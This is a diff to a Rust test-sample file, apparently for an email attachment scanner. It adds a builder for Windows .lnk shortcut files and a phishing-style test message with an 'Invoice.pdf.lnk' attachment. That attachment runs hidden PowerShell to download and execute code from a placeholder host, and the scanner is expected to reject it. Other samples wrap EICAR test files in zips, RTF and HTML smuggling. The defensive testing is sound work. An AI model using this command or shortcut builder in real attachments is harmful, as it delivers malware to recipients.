@@ -86,6 +86,52 @@ pub fn fake_lnk() -> Vec<u8> {
     lnk
 }
 
+/// A Windows shortcut as Explorer writes one: LinkInfo with the target's
+/// local path, working directory and arguments as UTF-16 StringData, and
+/// an environment-variable block with the target under `%windir%`.
+pub fn lnk(target: &str, arguments: &str, working_dir: &str) -> Vec<u8> {
+    let mut d = vec![
+        0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
+    ];
+    // HasLinkInfo | HasWorkingDir | HasArguments | IsUnicode | HasExpString
+    d.extend_from_slice(&(0x2u32 | 0x10 | 0x20 | 0x80 | 0x200).to_le_bytes());
+    d.resize(76, 0);
+    let mut info = Vec::new();
+    let volume: Vec<u8> = [0x11u32, 3, 0x1234_5678, 0x10]
+        .iter()
+        .flat_map(|v| v.to_le_bytes())
+        .chain([0u8])
+        .collect();
+    let base_off = 0x1c + volume.len();
+    let suffix_off = base_off + target.len() + 1;
+    let size = suffix_off + 1;
+    for v in [size, 0x1c, 1, 0x1c, base_off, 0, suffix_off] {
+        info.extend_from_slice(&(v as u32).to_le_bytes());
+    }
+    info.extend_from_slice(&volume);
+    info.extend_from_slice(target.as_bytes());
+    info.extend_from_slice(&[0, 0]);
+    d.extend_from_slice(&info);
+    for s in [working_dir, arguments] {
+        let units: Vec<u16> = s.encode_utf16().collect();
+        d.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        for u in units {
+            d.extend_from_slice(&u.to_le_bytes());
+        }
+    }
+    let env = target.replacen("C:\\Windows", "%windir%", 1);
+    let mut block = vec![0u8; 0x314];
+    block[0..4].copy_from_slice(&0x314u32.to_le_bytes());
+    block[4..8].copy_from_slice(&0xa000_0001u32.to_le_bytes());
+    block[8..8 + env.len().min(259)].copy_from_slice(&env.as_bytes()[..env.len().min(259)]);
+    for (i, u) in env.encode_utf16().take(259).enumerate() {
+        block[268 + i * 2..270 + i * 2].copy_from_slice(&u.to_le_bytes());
+    }
+    d.extend_from_slice(&block);
+    d.extend_from_slice(&[0, 0, 0, 0]);
+    d
+}
+
 /// An ISO 9660 volume descriptor at 0x8001 and no files.
 pub fn fake_iso() -> Vec<u8> {
     let mut iso = vec![0u8; 0x8800];
@@ -769,6 +815,7 @@ pub fn all() -> Vec<Sample> {
         sample("eicar_rtf_zip.eml", Mail, message("Letter", "see the letter", &[attachment("application/zip", "letter.zip", &zip(&[("letter.rtf", &rtf_with_package("eicar.com", &e))]))]), Reject, &["EICAR_Test_File"], "EICAR in a Packager object in an RTF in a zip"),
         sample("eicar_html_smuggling.eml", Mail, message("Invoice", "open the invoice", &[attachment("text/html", "invoice.html", &html_smuggling(&zip(&[("eicar.com", &e)])))]), Reject, &["EICAR_Test_File"], "EICAR in a zip smuggled in an HTML page as split base64"),
         sample("eicar_data_uri.eml", Mail, message("Page", "open the page", &[attachment("text/html", "page.html", format!("<html><body><a download=\"a.zip\" href=\"data:application/zip;base64,{}\">get</a></body></html>", { use base64::Engine as _; base64::engine::general_purpose::STANDARD.encode(zip(&[("eicar.com", &e)])) }).as_bytes())]), Reject, &["EICAR_Test_File"], "EICAR in a zip in a data: URI link"),
+        sample("lnk_powershell.eml", Mail, message("Invoice", "open the invoice", &[attachment("application/octet-stream", "Invoice.pdf.lnk", &lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -ep bypass -c iex (iwr http://example.invalid/a)", "%TEMP%"))]), Reject, &["LNK_Runs_Shell", "DOUBLE_EXTENSION"], "a shortcut named like a PDF that runs PowerShell; its target and arguments are extracted as text"),
         sample("duplicate_attachments.eml", Mail, message("Twice", "twice", &[attachment("application/pdf", "a.pdf", &clean_pdf()), attachment("application/pdf", "b.pdf", &clean_pdf())]), Accept, &[], "the same PDF twice: scanned once"),
     ];
     // Every message sample also with bare LF line endings.
